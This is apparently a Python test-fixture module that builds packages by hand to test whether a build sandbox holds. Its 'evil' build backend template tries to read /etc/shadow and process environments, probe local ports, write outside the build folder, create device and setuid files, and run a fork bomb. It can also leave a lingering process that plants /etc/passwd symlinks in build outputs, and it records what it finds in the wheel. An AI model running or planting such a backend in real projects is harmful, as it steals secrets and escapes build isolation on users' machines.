"""Packages made by hand for tests of builds: nothing is fetched from anywhere."""

from __future__ import annotations

import base64
import hashlib
import zipfile
from pathlib import Path

# A build back end of its own, so that building it needs no other package. What it finds out goes into the wheel.
EVIL = '''
import base64, hashlib, json, os, socket, subprocess, sys, time, zipfile

PORTS = {ports}
PRIVATE = {private!r}


def attempt(action):
    try:
        return str(action())[:200]
    except BaseException as error:
        return f"!{{type(error).__name__}}"


def connect(port):
    socket.create_connection(("127.0.0.1", port), timeout=2).close()
    return "connected"


def write(path):
    with open(path, "w") as file:
        file.write("x")
    return "written"


def special(path):
    os.mknod(path, 0o20666, os.makedev(1, 1))
    return "made"


def setuid(path):
    with open(path, "w") as file:
        file.write("x")
    os.chmod(path, 0o4755)
    return oct(os.stat(path).st_mode)


def forks():
    made = []
    try:
        for _ in range(600):
            pid = os.fork()
            if pid == 0:
                time.sleep(20)
                os._exit(0)
            made.append(pid)
        return len(made)
    except OSError:
        return f"stopped at {{len(made)}}"
    finally:
        for pid in made:
            os.kill(pid, 9)
            os.waitpid(pid, 0)


def probe():
    return {{
        "environment": sorted(os.environ),
        "first": attempt(lambda: open("/proc/1/environ").read()),
        "ports": [attempt(lambda port=port: connect(port)) for port in PORTS],
        "private": attempt(lambda: os.listdir(PRIVATE)),
        "shadow": attempt(lambda: open("/etc/shadow").read()),
        "outside": [attempt(lambda path=path: write(path)) for path in ("/evil", "/usr/evil", "/app/evil")],
        "device": attempt(lambda: special("/tmp/device")),
        "forks": attempt(forks) if {bomb} else "",
        "uid": os.getuid(),
    }}


def leave_something():
    """Something that goes on after the build, and tries to put a link into what it makes."""
    code = """
import glob, os, time
while True:
    for out in glob.glob("/tmp/build-*/out"):
        try:
            os.symlink("/etc/passwd", out + "/leak")
        except OSError:
            pass
    time.sleep(0.01)
"""
    subprocess.Popen([sys.executable, "-I", "-S", "-c", code], start_new_session=True, stdout=-3, stderr=-3)


def build_wheel(folder, settings=None, metadata=None):
    if {linger}:
        leave_something()
    name = "evil-1.0-py3-none-any.whl"
    files = {{
        "evil/__init__.py": "",
        "evil/found.json": json.dumps(probe()),
        "evil-1.0.dist-info/METADATA": "Metadata-Version: 2.1\\nName: evil\\nVersion: 1.0\\n",
        "evil-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
    }}
    with zipfile.ZipFile(os.path.join(folder, name), "w") as archive:
        lines = []
        for path, text in files.items():
            archive.writestr(path, text)
            digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
            lines.append(f"{{path}},sha256={{digest}},{{len(text.encode())}}")
        archive.writestr("evil-1.0.dist-info/RECORD", "\\n".join([*lines, "evil-1.0.dist-info/RECORD,,", ""]))
    return name


def get_requires_for_build_wheel(settings=None):
    return []
'''
PROJECT = """
[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]

[project]
name = "evil"
version = "1.0"
"""


def evil_source(folder: Path, *, ports: list[int], private: str, bomb: bool = False, linger: bool = False) -> Path:
    """Make a project whose build looks around."""
    folder.mkdir(parents=True)
    (folder / "pyproject.toml").write_text(PROJECT)
    source = EVIL.format(ports=ports, private=private, bomb=bomb, linger=linger)
    (folder / "backend.py").write_text(source)
    return folder


def wheel(folder: Path, name: str, version: str = "1.0") -> Path:
    """Make a wheel with one module that knows its version."""
    folder.mkdir(parents=True, exist_ok=True)
    info = f"{name}-{version}.dist-info"
    files = {
        f"{name}/__init__.py": f"VERSION = {version!r}\n",
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: t\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    path = folder / f"{name}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as archive:
        lines = []
        for place, text in files.items():
            archive.writestr(place, text)
            digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
            lines.append(f"{place},sha256={digest},{len(text.encode())}")
        archive.writestr(f"{info}/RECORD", "\n".join([*lines, f"{info}/RECORD,,", ""]))
    return path
